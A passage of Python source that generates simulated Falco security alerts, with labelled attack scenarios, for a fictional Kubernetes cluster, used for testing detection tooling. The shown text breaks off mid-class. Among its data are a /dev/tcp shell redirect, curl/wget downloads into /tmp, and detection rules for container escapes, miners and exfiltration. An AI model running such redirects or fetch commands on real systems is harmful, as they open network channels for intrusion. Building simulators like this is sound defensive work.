"""A deterministic generator of realistic Falco alert streams from a small simulated cluster.

``simulate(seed, hours)`` returns a ``Simulation``: the alerts (compact JSON lines, byte for byte
in the layout Falco >= 0.39 writes with ``json_output: true``), the ground truth of the attacks
hidden in them (``labels``), and the YAML manifests of the cluster's workloads, so that
``kubesentinel scan`` gives the posture the monitor bridges to. ``write_simulation`` puts it all
in a directory. Tests, the README demo and the benchmarks use it; one seed, one byte stream.

The cluster: three nodes, six namespaces, nine workloads (Deployments with rollouts, a
StatefulSet, DaemonSets, CronJobs on schedule), some hardened, some misconfigured. The stream:
background noise at ``events_per_s`` (package managers in CI job pods, Postgres WAL-archiving
shells, agents and an app calling the API server or the cloud metadata service, a rare stdin
redirect), developers' ``kubectl exec`` sessions seen by k8s_audit and syscall rules alike,
GitOps rollouts flagged by "Disallowed K8s User", a Falco metrics snapshot per node every 15
minutes, and four labelled attacks (``SCENARIOS``).

Every alert uses a real rule of falcosecurity/rules (stable, incubating, sandbox) or of the
k8saudit plugin, with that rule's priority, tags and output template, plus the fields that
Falco's default ``append_output`` (0.41+) adds to syscall alerts. Only those facts live here
(``_RULES``); nothing is read at run time.

Speed: each (rule, pod, command) alert is rendered to JSON once and split around its three time
slots (output prefix, ``evt.time``, ``time``); an alert in the stream is then one string join.
Background times come from a seeded Poisson process, already in order, merged with the sorted
fixed events, so a stream of any length is produced lazily in constant memory.
"""

# ruff: noqa: S108  # /tmp paths here are what simulated processes touch, not files we open

from __future__ import annotations

import copy
import hashlib
import json
import math
import random
import re
from bisect import bisect_right
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime
from functools import lru_cache
from itertools import accumulate
from pathlib import Path
from typing import Any, Final

import yaml

from kubesentinel.models.falco_alert import Priority
from kubesentinel.runtime.mitre import mitre_of

__all__ = [
    "DEFAULT_START_NS",
    "SCENARIOS",
    "WORKLOADS",
    "ScenarioLabel",
    "ScenarioStep",
    "SimWorkload",
    "Simulation",
    "simulate",
    "write_simulation",
]

NS: Final = 1_000_000_000
DEFAULT_START_NS: Final = 1_767_225_600 * NS  # 2026-01-01T00:00:00Z
MIN_HOURS: Final = 0.25  # the four attacks need a quarter of an hour to play out
CLUSTER: Final = "sim"
SCENARIOS: Final = ("web-rce", "cron-miner", "container-escape", "exec-exfiltration")

# --- Facts from the rules files ----------------------------------------------------------------
# falcosecurity/rules falco_rules.yaml, falco-incubating_rules.yaml, falco-sandbox_rules.yaml and
# falcosecurity/plugins k8saudit k8s_audit_rules.yaml: name, priority, tags, output. Most syscall
# outputs end with the same process fields; they are spelled once here.
_PROC: Final = (
    "evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid "
    "process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline "
    "terminal=%proc.tty"
)
_EXE: Final = _PROC + " exe_flags=%evt.arg.flags"
_NET: Final = (
    "connection=%fd.name lport=%fd.lport rport=%fd.rport fd_type=%fd.type fd_proto=%fd.l4proto "
)
_ANCESTORS: Final = "gparent=%proc.aname[2] ggparent=%proc.aname[3] gggparent=%proc.aname[4] "


@dataclass(frozen=True, slots=True)
class _Rule:
    name: str
    priority: str  # as the rules file spells it
    tags: tuple[str, ...]
    output: str
    source: str = "syscall"


def _rule(name: str, priority: str, tags: str, output: str, source: str = "syscall") -> _Rule:
    return _Rule(name, priority, tuple(tags.split()), output, source)


# fmt: off
_RULES: Final = {r.name: r for r in (
    _rule("Terminal shell in container", "NOTICE",
          "maturity_stable container shell mitre_execution T1059",
          f"A shell was spawned in a container with an attached terminal | {_EXE}"),
    _rule("Run shell untrusted", "NOTICE",
          "maturity_stable host container process shell mitre_execution T1059.004",
          "Shell spawned by untrusted binary | parent_exe=%proc.pexe parent_exepath=%proc.pexepath "
          "pcmdline=%proc.pcmdline gparent=%proc.aname[2] ggparent=%proc.aname[3] "
          "aname[4]=%proc.aname[4] aname[5]=%proc.aname[5] aname[6]=%proc.aname[6] "
          f"aname[7]=%proc.aname[7] {_EXE}"),
    _rule("Read sensitive file untrusted", "WARNING",
          "maturity_stable host container filesystem mitre_credential_access T1555",
          "Sensitive file opened for reading by non-trusted program | file=%fd.name "
          f"{_ANCESTORS}{_PROC}"),
    _rule("Contact K8S API Server From Container", "NOTICE",
          "maturity_stable container network k8s mitre_discovery T1565",
          f"Unexpected connection to K8s API Server from container | {_NET}{_PROC}"),
    _rule("Redirect STDOUT/STDIN to Network Connection in Container", "NOTICE",
          "maturity_stable container network process mitre_execution T1059",
          f"Redirect stdout/stdin to network connection | {_ANCESTORS}fd.sip=%fd.sip "
          f"{_NET}{_PROC}"),
    _rule("Search Private Keys or Passwords", "WARNING",
          "maturity_stable host container process filesystem mitre_credential_access T1552.001",
          f"Grep private keys or passwords activities found | {_EXE}"),
    _rule("Detect release_agent File Container Escapes", "CRITICAL",
          "maturity_stable container process mitre_privilege_escalation T1611",
          "Detect an attempt to exploit a container escape using release_agent file | "
          f"file=%fd.name cap_effective=%thread.cap_effective {_PROC}"),
    _rule("Drop and execute new binary in container", "CRITICAL",
          "maturity_stable container process mitre_persistence TA0003 PCI_DSS_11.5.1",
          "Executing binary not part of base image | proc_exe=%proc.exe proc_sname=%proc.sname "
          "gparent=%proc.aname[2] proc_exe_ino_ctime=%proc.exe_ino.ctime "
          "proc_exe_ino_mtime=%proc.exe_ino.mtime "
          "proc_exe_ino_ctime_duration_proc_start=%proc.exe_ino.ctime_duration_proc_start "
          f"proc_cwd=%proc.cwd container_start_ts=%container.start_ts {_EXE}"),
    _rule("DB program spawned process", "NOTICE",
          "maturity_incubating host container process database mitre_execution T1190",
          f"Database-related program spawned process other than itself | {_EXE}"),
    _rule("Contact cloud metadata service from container", "NOTICE",
          "maturity_incubating network container mitre_discovery T1565",
          f"Outbound connection to cloud instance metadata service | {_NET}{_PROC}"),
    _rule("Launch Package Management Process in Container", "ERROR",
          "maturity_incubating container process software_mgmt mitre_persistence T1505",
          f"Package management process launched in container | {_EXE}"),
    _rule("Launch Remote File Copy Tools in Container", "NOTICE",
          "maturity_incubating container network process mitre_exfiltration T1020",
          f"Remote file copy tool launched in container | {_EXE}"),
    _rule("Launch Ingress Remote File Copy Tools in Container", "NOTICE",
          "maturity_incubating container network process mitre_command_and_control TA0011",
          f"Ingress remote file copy tool launched in container | {_EXE}"),
    _rule("Mount Launched in Privileged Container", "WARNING",
          "maturity_incubating container cis filesystem mitre_privilege_escalation T1611",
          f"Mount was executed inside a privileged container | {_EXE}"),
    _rule("Exfiltrating Artifacts via Kubernetes Control Plane", "NOTICE",
          "maturity_incubating container filesystem mitre_exfiltration TA0010",
          f"Exfiltrating Artifacts via Kubernetes Control Plane | file=%fd.name {_PROC}"),
    _rule("Detect crypto miners using the Stratum protocol", "CRITICAL",
          "maturity_sandbox host container process mitre_impact T1496",
          f"Possible miner running | {_EXE}"),
    _rule("Attach/Exec Pod", "NOTICE", "k8s",
          "Attach/Exec to pod (user=%ka.user.name pod=%ka.target.name resource=%ka.target.resource "
          "ns=%ka.target.namespace action=%ka.target.subresource command=%ka.uri.param[command])",
          "k8s_audit"),
    _rule("Disallowed K8s User", "WARNING", "k8s",
          "K8s Operation performed by user not in allowed list of users (user=%ka.user.name "
          "target=%ka.target.name/%ka.target.resource verb=%ka.verb uri=%ka.uri "
          "resp=%ka.response.code)",
          "k8s_audit"),
)}
# fmt: on

# Falco's default falco.yaml (0.41+) appends this to every syscall rule's output.
_APPEND_SYSCALL: Final = (
    "container_id=%container.id container_name=%container.name "
    "container_image_repository=%container.image.repository "
    "container_image_tag=%container.image.tag k8s_pod_name=%k8s.pod.name k8s_ns_name=%k8s.ns.name"
)
_FIELD: Final = re.compile(r"%([a-z][a-z0-9_]*(?:\.[a-z0-9_]+)+(?:\[[^\]]*\])?)")

# --- Public records ----------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class SimWorkload:
    namespace: str
    kind: str
    name: str
    container: str
    image: str  # as the manifest writes it
    hardened: bool  # True: no scanner finding at medium or above; False: critical/high ones
    replicas: int = 1
    schedule: str = ""  # CronJobs only
    user: tuple[str, int] = ("root", 0)  # the user its processes run as (name, uid)

    @property
    def key(self) -> str:
        """The posture key: namespace/Kind/name."""
        return f"{self.namespace}/{self.kind}/{self.name}"

    @property
    def repository(self) -> str:
        return self._name_tag()[0]

    @property
    def tag(self) -> str:
        return self._name_tag()[1]

    def _name_tag(self) -> tuple[str, str]:
        name = self.image.partition("@")[0]
        if ":" not in name.rsplit("/", 1)[-1]:
            return name, ""
        repository, _, tag = name.rpartition(":")
        return repository, tag


@dataclass(frozen=True, slots=True)
class ScenarioStep:
    time_ns: int
    rule: str
    priority: Priority
    source: str


@dataclass(frozen=True, slots=True)
class ScenarioLabel:
    """Ground truth for one attack: where, when, and which rules and tactics it raises."""

    id: str
    title: str
    summary: str
    workload: SimWorkload
    pod: str
    node: str
    start_ns: int
    end_ns: int
    rules: tuple[str, ...]  # in order of first appearance
    tactics: tuple[str, ...]  # in order of first appearance
    techniques: tuple[str, ...]
    steps: tuple[ScenarioStep, ...]

    def to_json(self) -> dict[str, Any]:
        w = self.workload
        return {
            "id": self.id,
            "title": self.title,
            "summary": self.summary,
            "workload": {
                "cluster": CLUSTER,
                "namespace": w.namespace,
                "kind": w.kind,
                "name": w.name,
                "key": w.key,
            },
            "pod": self.pod,
            "node": self.node,
            "start": _rfc3339(self.start_ns),
            "end": _rfc3339(self.end_ns),
            "start_ns": self.start_ns,
            "end_ns": self.end_ns,
            "rules": list(self.rules),
            "tactics": list(self.tactics),
            "techniques": list(self.techniques),
            "steps": [
                {
                    "time": _rfc3339(s.time_ns),
                    "time_ns": s.time_ns,
                    "rule": s.rule,
                    "priority": s.priority.label,
                    "source": s.source,
                }
                for s in self.steps
            ],
        }


@dataclass(frozen=True, slots=True, eq=False)
class Simulation:
    seed: int
    start_ns: int
    end_ns: int
    events_per_s: float
    cluster: str
    nodes: tuple[str, ...]
    workloads: tuple[SimWorkload, ...]
    labels: tuple[ScenarioLabel, ...]
    manifests: Mapping[str, str]  # file name -> YAML text
    _plan: _Plan = field(repr=False)

    @property
    def alerts(self) -> Iterator[dict[str, Any]]:
        """The alerts as dicts, in time order (a fresh iterator on each access)."""
        return (json.loads(line) for line in self.lines())

    def lines(self) -> Iterator[str]:
        """The alerts as compact JSON lines (without newline), in time order."""
        for chunk in self.chunks():
            yield from chunk

    def chunks(self) -> Iterator[list[str]]:
        """The same lines in lists of a few thousand, for fast writers."""
        return self._plan.render(self.seed, self.start_ns)

    def labels_json(self) -> dict[str, Any]:
        return {
            "generator": "kubesentinel simulate",
            "seed": self.seed,
            "cluster": self.cluster,
            "start": _rfc3339(self.start_ns),
            "end": _rfc3339(self.end_ns),
            "events_per_s": self.events_per_s,
            "nodes": list(self.nodes),
            "workloads": [
                {"key": w.key, "image": w.image, "hardened": w.hardened} for w in self.workloads
            ],
            "scenarios": [label.to_json() for label in self.labels],
        }


# --- Rendering: each alert layout rendered once, its three time slots filled per alert ---------

_HMS: Final = "\x1bHMS\x1b"
_EVT: Final = "\x1bEVT\x1b"
_RFC: Final = "\x1bRFC\x1b"
_Template = tuple[str, str | None, str, str]  # head, middle (None: complete), tail, end


def _text(value: Any) -> str:
    return "<NA>" if value is None else str(value)


def _fill(template: str, fields: Mapping[str, Any]) -> str:
    return _FIELD.sub(lambda m: _text(fields.get(m.group(1))), template)


@lru_cache(maxsize=64)
def _fields_of(rule: _Rule) -> tuple[str, ...]:
    text = rule.output + (" " + _APPEND_SYSCALL if rule.source == "syscall" else "")
    return tuple(dict.fromkeys(_FIELD.findall(text)))


def _json_str(text: str) -> str:
    return json.dumps(text)[1:-1]


def _dumps(alert: Mapping[str, Any]) -> str:
    return json.dumps(alert, separators=(",", ":"), ensure_ascii=False)


class _Templates:
    """Pre-rendered alert layouts, addressed by index."""

    def __init__(self) -> None:
        self.parts: list[_Template] = []

    def add(self, host: str, rule_name: str, fields: Mapping[str, Any]) -> int:
        rule = _RULES[rule_name]
        label = Priority.parse(rule.priority).label
        output = f"{_HMS}: {label} {_fill(rule.output, fields)}"
        if rule.source == "syscall":
            output += " " + _fill(_APPEND_SYSCALL, fields)
        values = {name: fields.get(name) for name in _fields_of(rule)} | {"evt.time": _EVT}
        text = _dumps({
            "hostname": host,
            "output": output,
            "output_fields": dict(sorted(values.items())),
            "priority": label,
            "rule": rule.name,
            "source": rule.source,
            "tags": sorted(rule.tags),
            "time": _RFC + "Z",
        })  # fmt: skip
        head, rest = text.split(_json_str(_HMS), 1)
        middle, rest = rest.split(f'"{_json_str(_EVT)}"', 1)
        tail, end = rest.split(_json_str(_RFC), 1)
        self.parts.append((head, middle, tail, end))
        return len(self.parts) - 1

    def add_line(self, line: str) -> int:
        """A fully rendered alert: its time is already in it."""
        self.parts.append((line, None, "", ""))
        return len(self.parts) - 1


@lru_cache(maxsize=8)
def _date(day: int) -> str:
    return datetime.fromtimestamp(day * 86400, UTC).strftime("%Y-%m-%d")


def _rfc3339(time_ns: int) -> str:
    sec, frac = divmod(time_ns, NS)
    day, sod = divmod(sec, 86400)
    return f"{_date(day)}T{sod // 3600:02d}:{sod % 3600 // 60:02d}:{sod % 60:02d}.{frac:09d}Z"


# --- The plan: fixed events, noise profiles, and the lazy merge that renders them --------------


@dataclass(slots=True)
class _Target:
    """Where a noise profile fires: per slot (replica, node, ordinal) the start offsets of its
    successive pods and each pod's variants (template indices fired together); for a CronJob,
    one slot holding its runs, with their end offsets."""

    starts: list[list[int]]
    variants: list[list[list[tuple[int, ...]]]]
    ends: list[list[int]] | None = None


@dataclass(slots=True)
class _Plan:
    span_ns: int
    events_per_s: float
    templates: _Templates
    fixed: list[tuple[int, int]]  # (offset ns, template index), sorted
    profiles: list[tuple[float, _Target]]  # (weight, where)

    def render(self, seed: int, start_ns: int) -> Iterator[list[str]]:
        """The alert lines in time order, a batch at a time."""
        parts = self.templates.parts
        last_sec = -1
        hms = rfc = ""
        for batch in self._events(seed):
            out: list[str] = []
            append = out.append
            for offset, index in batch:
                head, middle, tail, end = parts[index]
                if middle is None:
                    append(head)
                    continue
                t = start_ns + offset
                sec, frac_ns = divmod(t, NS)
                if sec != last_sec:
                    last_sec = sec
                    day, sod = divmod(sec, 86400)
                    hms = f"{sod // 3600:02d}:{sod % 3600 // 60:02d}:{sod % 60:02d}."
                    rfc = f"{_date(day)}T{hms}"
                frac = f"{frac_ns:09d}"
                append(f"{head}{hms}{frac}{middle}{t}{tail}{rfc}{frac}{end}")
            yield out

    def _events(self, seed: int, size: int = 4096) -> Iterator[list[tuple[int, int]]]:
        """(offset, template) in time order: the background batch by batch, each merged with
        the fixed events that fall in it."""
        fixed, taken = self.fixed, 0
        for batch in self._background(seed, size):
            until = bisect_right(fixed, (batch[-1][0], 1 << 62), taken)
            if until > taken:
                batch.extend(fixed[taken:until])
                batch.sort()  # two sorted runs: one merge pass
                taken = until
            yield batch
        if taken < len(fixed):
            yield fixed[taken:]

    def _background(self, seed: int, size: int) -> Iterator[list[tuple[int, int]]]:
        """A Poisson process of noise events in time order, from its own seeded generator."""
        if not self.profiles or self.events_per_s <= 0:
            return
        rng = random.Random(seed * 7919 + 17)  # noqa: S311  a simulation, not cryptography
        rand, log = rng.random, math.log
        weights = [w for w, _ in self.profiles]
        per_event = sum(w * len(t.variants[0][0][0]) for w, t in self.profiles) / sum(weights)
        rate_per_ns = self.events_per_s / per_event / NS
        # Flat tuples: this loop runs once per background event.
        targets = [(t.starts, t.variants, t.ends, len(t.starts)) for _, t in self.profiles]
        cumulative = list(accumulate(weights))
        total = cumulative[-1]
        steady = [target for target in targets if target[2] is None]
        steady_cumulative = list(accumulate(w for w, t in self.profiles if t.ends is None))
        steady_total = steady_cumulative[-1]
        span = self.span_ns
        t = 0.0
        batch: list[tuple[int, int]] = []
        append = batch.append
        while True:
            t += -log(1.0 - rand()) / rate_per_ns  # exponential gaps: a Poisson process
            offset = int(t)
            if offset >= span:
                break
            starts, variants, ends, slots = targets[bisect_right(cumulative, rand() * total)]
            slot = int(rand() * slots)
            i = bisect_right(starts[slot], offset) - 1
            if ends is not None and (i < 0 or offset >= ends[slot][i]):
                # No job is running now: the alert comes from an always-on workload instead.
                pick = bisect_right(steady_cumulative, rand() * steady_total)
                starts, variants, ends, slots = steady[pick]
                slot = int(rand() * slots)
                i = bisect_right(starts[slot], offset) - 1
            choices = variants[slot][i]
            for index in choices[int(rand() * len(choices))]:
                append((offset, index))
            if len(batch) >= size:
                yield batch
                batch = []
                append = batch.append
        if batch:
            yield batch


# --- The cluster -------------------------------------------------------------------------------

_NODES: Final = (  # (name, node IP, pod CIDR prefix)
    ("ip-10-0-1-21", "10.0.1.21", "10.244.1"),
    ("ip-10-0-2-37", "10.0.2.37", "10.244.2"),
    ("ip-10-0-3-54", "10.0.3.54", "10.244.3"),
)
_API_SERVER: Final = "10.96.0.1"
_ALPHABET: Final = "bcdfghjklmnpqrstvwxz2456789"  # Kubernetes' random-name alphabet
_BEFORE: Final = -(1 << 62)  # offset of pods that were running before the window opened


def _digest(text: str) -> str:
    return "sha256:" + hashlib.sha256(text.encode()).hexdigest()


def _pinned(image: str) -> str:
    return f"{image}@{_digest(image)}"


WORKLOADS: Final = (
    SimWorkload("shop", "Deployment", "storefront", "web",
                "registry.example.com/shop/storefront:4.2.1", False, replicas=3),
    SimWorkload("shop", "Deployment", "cart", "cart",
                _pinned("registry.example.com/shop/cart:2.7.0"), True, replicas=2,
                user=("app", 10001)),
    SimWorkload("payments", "Deployment", "payments-api", "api",
                _pinned("registry.example.com/payments/api:1.19.3"), True, replicas=3,
                user=("app", 10001)),
    SimWorkload("data", "StatefulSet", "postgres", "postgres",
                _pinned("docker.io/library/postgres:16.4"), True, replicas=2,
                user=("postgres", 999)),
    SimWorkload("data", "CronJob", "metrics-rollup", "rollup",
                "docker.io/acmecorp/metrics-rollup:latest", False, schedule="*/10 * * * *"),
    SimWorkload("ci", "CronJob", "dependency-audit", "audit",
                "registry.example.com/ci/node-builder:20.18", False, schedule="*/5 * * * *"),
    SimWorkload("monitoring", "DaemonSet", "node-agent", "agent",
                "registry.example.com/ops/node-agent:1.8.3", False),
    SimWorkload("logging", "DaemonSet", "fluent-bit", "fluent-bit",
                "cr.fluentbit.io/fluent/fluent-bit:3.1.9", False),
    SimWorkload("staging", "Deployment", "web-preview", "web",
                _pinned("docker.io/nginxinc/nginx-unprivileged:1.27.3"), True,
                user=("nginx", 101)),
)  # fmt: skip
_BY_NAME: Final = {w.name: w for w in WORKLOADS}


@dataclass(slots=True)
class _Pod:
    workload: SimWorkload
    name: str
    node: int
    ip: str
    container_id: str
    created_ns: int  # absolute
    start: int  # offset from which this pod serves its slot
    end: int = 1 << 62  # CronJob pods finish

    @property
    def host(self) -> str:
        return _NODES[self.node][0]

    def fields(self) -> dict[str, Any]:
        w = self.workload
        return {
            "container.id": self.container_id,
            "container.name": w.container,
            "container.image.repository": w.repository,
            "container.image.tag": w.tag,
            "container.start_ts": self.created_ns,
            "k8s.pod.name": self.name,
            "k8s.ns.name": w.namespace,
        }


@dataclass(slots=True)
class _Cluster:
    rng: random.Random
    start_ns: int
    span_ns: int
    slots: dict[str, list[list[_Pod]]] = field(default_factory=dict)
    rollouts: list[tuple[int, SimWorkload]] = field(default_factory=list)
    ips: Counter[int] = field(default_factory=Counter)

    def rand_str(self, n: int) -> str:
        return "".join(self.rng.choice(_ALPHABET) for _ in range(n))

    def template_hash(self) -> str:
        # The ReplicaSet controller's SafeEncodeString of a decimal uint32: only 4-9 b c d f.
        return "".join(_ALPHABET[ord(c) % 27] for c in str(self.rng.getrandbits(32)))

    def long_ago(self) -> int:
        return self.start_ns - self.rng.randrange(2 * 3600, 9 * 86400) * NS - self.rng.randrange(NS)

    def pod(self, w: SimWorkload, name: str, node: int, start: int, created_ns: int) -> _Pod:
        self.ips[node] += 1
        host_network = w.name == "node-agent"
        # Pod IPs come from the node's /24, reused as pods come and go.
        ip = _NODES[node][1] if host_network else f"{_NODES[node][2]}.{10 + self.ips[node] % 240}"
        return _Pod(w, name, node, ip, f"{self.rng.getrandbits(48):012x}", created_ns, start)

    def pod_at(self, name: str, offset: int, slot: int = 0) -> _Pod:
        pods = self.slots[name][slot]
        return pods[bisect_right([p.start for p in pods], offset) - 1]


def _build_cluster(rng: random.Random, start_ns: int, span_ns: int) -> _Cluster:
    c = _Cluster(rng, start_ns, span_ns)
    for w in WORKLOADS:
        if w.kind == "Deployment":
            c.slots[w.name] = _deployment(c, w)
        elif w.kind == "StatefulSet":
            c.slots[w.name] = [
                [c.pod(w, f"{w.name}-{i}", i % 3, _BEFORE, c.long_ago())] for i in range(w.replicas)
            ]
        elif w.kind == "DaemonSet":
            c.slots[w.name] = [
                [c.pod(w, f"{w.name}-{c.rand_str(5)}", node, _BEFORE, c.long_ago())]
                for node in range(len(_NODES))
            ]
        else:
            c.slots[w.name] = [_cron_runs(c, w)]
    return c


def _deployment(c: _Cluster, w: SimWorkload) -> list[list[_Pod]]:
    first = c.template_hash()
    slots = [
        [c.pod(w, f"{w.name}-{first}-{c.rand_str(5)}", c.rng.randrange(3), _BEFORE, c.long_ago())]
        for _ in range(w.replicas)
    ]
    # Busy teams ship often: the cart and the preview roll out every two hours, others rarely.
    busy = w.name in ("cart", "web-preview")
    count = max(round(c.span_ns / (7200 * NS)), 1) if busy else round(c.span_ns / (21600 * NS))
    for at in sorted(int(c.rng.uniform(0.05, 0.9) * c.span_ns) for _ in range(count)):
        new = c.template_hash()
        c.rollouts.append((at, w))
        for i, pods in enumerate(slots):  # maxSurge 1: one replica after the other
            ready = at + (i + 1) * c.rng.randrange(8, 20) * NS + c.rng.randrange(NS)
            created = c.start_ns + ready - c.rng.randrange(5, 9) * NS
            name = f"{w.name}-{new}-{c.rand_str(5)}"
            pods.append(c.pod(w, name, c.rng.randrange(3), ready, created))
    return slots


def _cron_runs(c: _Cluster, w: SimWorkload) -> list[_Pod]:
    every = int(w.schedule.split()[0].removeprefix("*/")) * 60 * NS
    runs: list[_Pod] = []
    node = c.rng.randrange(3)
    for scheduled in range(-(c.start_ns % every), c.span_ns, every):
        minutes = (c.start_ns + scheduled) // (60 * NS)  # the Job is <cronjob>-<unix minutes>
        begin = scheduled + c.rng.randrange(1, 3) * NS + c.rng.randrange(NS)
        seconds = (
            c.rng.randrange(150, 240) if w.name == "dependency-audit" else c.rng.randrange(45, 90)
        )
        pod = c.pod(w, f"{w.name}-{minutes}-{c.rand_str(5)}", node, begin, c.start_ns + begin)
        pod.end = min(begin + seconds * NS, c.span_ns)
        node = (node + 1 + c.rng.randrange(2)) % 3
        runs.append(pod)
    return runs


# --- Field helpers -----------------------------------------------------------------------------


def _proc(
    name: str,
    exepath: str,
    cmdline: str,
    parent: str | None,
    *ancestors: str,  # from the grandparent up: proc.aname[2], [3], ...
    user: tuple[str, int] = ("root", 0),
    tty: int = 0,
    flags: str = "EXE_LOWER_LAYER",
    evt_type: str = "execve",
    pexe: str | None = None,
    pcmdline: str | None = None,
) -> dict[str, Any]:
    fields: dict[str, Any] = {
        "evt.type": evt_type,
        "evt.arg.flags": flags,
        "user.name": user[0],
        "user.uid": user[1],
        "user.loginuid": -1,
        "proc.name": name,
        "proc.exepath": exepath,
        "proc.cmdline": cmdline,
        "proc.pname": parent,
        "proc.tty": tty,
        "proc.pexe": pexe,
        "proc.pexepath": pexe,
        "proc.pcmdline": pcmdline,
    }
    for depth in range(2, 8):
        fields[f"proc.aname[{depth}]"] = (
            ancestors[depth - 2] if depth - 2 < len(ancestors) else None
        )
    return fields


def _connect(
    local_ip: str, local_port: int, remote_ip: str, remote_port: int, evt_type: str = "connect"
) -> dict[str, Any]:
    # Falco reports the server's port as fd.lport and the client's as fd.rport.
    return {
        "evt.type": evt_type,
        "fd.name": f"{local_ip}:{local_port}->{remote_ip}:{remote_port}",
        "fd.lport": remote_port,
        "fd.rport": local_port,
        "fd.sip": remote_ip,
        "fd.type": "ipv4",
        "fd.l4proto": "tcp",
    }


def _port(rng: random.Random) -> int:
    return rng.randrange(32768, 61000)  # Linux's ephemeral port range


def _exec_audit(user: str, pod: str, namespace: str, command: str) -> dict[str, Any]:
    return {
        "ka.user.name": user,
        "ka.target.name": pod,
        "ka.target.namespace": namespace,
        "ka.target.resource": "pods",
        "ka.target.subresource": "exec",
        "ka.uri.param[command]": command,
    }


# --- Background noise: what an untuned Falco says all day about a healthy cluster ---------------

Variant = list[tuple[str, dict[str, Any]]]  # the alerts of one event: (rule, fields beyond pod's)
_NoiseFn = Callable[[random.Random, _Pod], list[Variant]]


def _noise_packages(rng: random.Random, pod: _Pod) -> list[Variant]:
    commands = (
        ("npm", "/usr/local/bin/npm", "npm ci --no-audit --prefer-offline", "sh"),
        ("npm", "/usr/local/bin/npm", "npm audit --json --omit=dev", "sh"),
        ("apt-get", "/usr/bin/apt-get", "apt-get update -qq", "sh"),
        ("apt-get", "/usr/bin/apt-get", "apt-get install -y --no-install-recommends jq", "sh"),
        ("dpkg", "/usr/bin/dpkg", "dpkg --status-fd 29 --configure --pending", "apt-get"),
        ("pip3", "/usr/bin/pip3", "pip3 install --no-cache-dir -r requirements-audit.txt", "sh"),
    )
    rule = "Launch Package Management Process in Container"
    return [[(rule, _proc(*cmd, "node", "containerd-shim"))] for cmd in commands]


def _noise_downloads(rng: random.Random, pod: _Pod) -> list[Variant]:
    trivy = (
        "https://github.com/aquasecurity/trivy/releases/download/v0.58.1/trivy_0.58.1_Linux-64bit"
    )
    commands = (
        ("curl", "/usr/bin/curl", f"curl -fsSL {trivy}.tar.gz -o /tmp/trivy.tgz"),
        ("wget", "/usr/bin/wget", "wget -q https://osv-vulnerabilities.storage.googleapis.com/npm/all.zip"),
        ("curl", "/usr/bin/curl", "curl -sSfL https://registry.npmjs.org/-/npm/v1/security/advisories/"
         "bulk -o /tmp/advisories.json"),
    )  # fmt: skip
    rule = "Launch Ingress Remote File Copy Tools in Container"
    return [[(rule, _proc(*cmd, "sh", "node", "containerd-shim"))] for cmd in commands]


def _noise_wal_archive(rng: random.Random, pod: _Pod) -> list[Variant]:
    # archive_command runs a shell under postgres: two rules fire on the same execve.
    out: list[Variant] = []
    first = rng.randrange(0x30, 0xA0)
    for segment in range(first, first + 12):
        wal = f"0000000100000042000000{segment:02X}"
        archive = f"/var/lib/postgresql/wal-archive/{wal}"
        cmd = f"sh -c test ! -f {archive} && cp pg_wal/{wal} {archive}"
        fields = _proc("sh", "/usr/bin/dash", cmd, "postgres", "postgres", "containerd-shim",
                       user=pod.workload.user, pexe="/usr/lib/postgresql/16/bin/postgres",
                       pcmdline="postgres: archiver archiving")  # fmt: skip
        out.append([("DB program spawned process", fields), ("Run shell untrusted", fields)])
    return out


def _noise_api_server(rng: random.Random, pod: _Pod) -> list[Variant]:
    cmd = "/fluent-bit/bin/fluent-bit -c /fluent-bit/etc/conf/fluent-bit.conf"
    base = _proc("fluent-bit", "/fluent-bit/bin/fluent-bit", cmd, "containerd-shim")
    rule = "Contact K8S API Server From Container"
    return [[(rule, base | _connect(pod.ip, _port(rng), _API_SERVER, 443))] for _ in range(8)]


def _noise_metadata(rng: random.Random, pod: _Pod) -> list[Variant]:
    cmd = "/usr/local/bin/node-agent --config=/etc/node-agent/config.yaml"
    base = _proc("node-agent", "/usr/local/bin/node-agent", cmd, "containerd-shim")
    rule = "Contact cloud metadata service from container"
    return [[(rule, base | _connect(pod.ip, _port(rng), "169.254.169.254", 80))] for _ in range(6)]


def _noise_instance_credentials(rng: random.Random, pod: _Pod) -> list[Variant]:
    # The AWS SDK in the cart asks the instance metadata service for credentials.
    cmd = "java -XX:MaxRAMPercentage=75 -jar /app/cart.jar"
    base = _proc(
        "java", "/opt/java/openjdk/bin/java", cmd, "containerd-shim", user=pod.workload.user
    )
    rule = "Contact cloud metadata service from container"
    return [[(rule, base | _connect(pod.ip, _port(rng), "169.254.169.254", 80))] for _ in range(6)]


def _noise_redirect(rng: random.Random, pod: _Pod) -> list[Variant]:
    cmd = "bash -c cat < /dev/tcp/10.96.0.10/53"  # a developer's DNS check in staging
    fields = _proc("bash", "/usr/bin/bash", cmd, "sh", "containerd-shim", user=pod.workload.user)
    fields |= _connect(pod.ip, _port(rng), "10.96.0.10", 53, evt_type="dup2")
    return [[("Redirect STDOUT/STDIN to Network Connection in Container", fields)]]


# (workload, weight, variants): weights are shares of the background rate.
_NOISE: Final[tuple[tuple[str, float, _NoiseFn], ...]] = (
    ("dependency-audit", 35.0, _noise_packages),
    ("dependency-audit", 10.0, _noise_downloads),
    ("postgres", 20.0, _noise_wal_archive),
    ("fluent-bit", 20.0, _noise_api_server),
    ("node-agent", 5.0, _noise_metadata),
    ("cart", 5.0, _noise_instance_credentials),
    ("web-preview", 0.1, _noise_redirect),
)


def _profiles(c: _Cluster, templates: _Templates) -> list[tuple[float, _Target]]:
    profiles: list[tuple[float, _Target]] = []
    for name, weight, make in _NOISE:
        slots = c.slots[name]
        variants = [
            [
                [tuple(templates.add(p.host, rule, p.fields() | extra) for rule, extra in event)
                 for event in make(c.rng, p)]
                for p in pods
            ]
            for pods in slots
        ]  # fmt: skip
        starts = [[p.start for p in pods] for pods in slots]
        ends = (
            [[p.end for p in pods] for pods in slots] if _BY_NAME[name].kind == "CronJob" else None
        )
        profiles.append((weight, _Target(starts, variants, ends)))
    return profiles


# --- Fixed events: rollouts, developers' exec sessions, metrics snapshots ----------------------


@dataclass(slots=True)
class _Fixed:
    c: _Cluster
    templates: _Templates
    audit_host: str  # the Falco pod running the k8saudit plugin
    events: list[tuple[int, int]] = field(default_factory=list)

    def add(self, offset: int, host: str, rule: str, fields: Mapping[str, Any]) -> int:
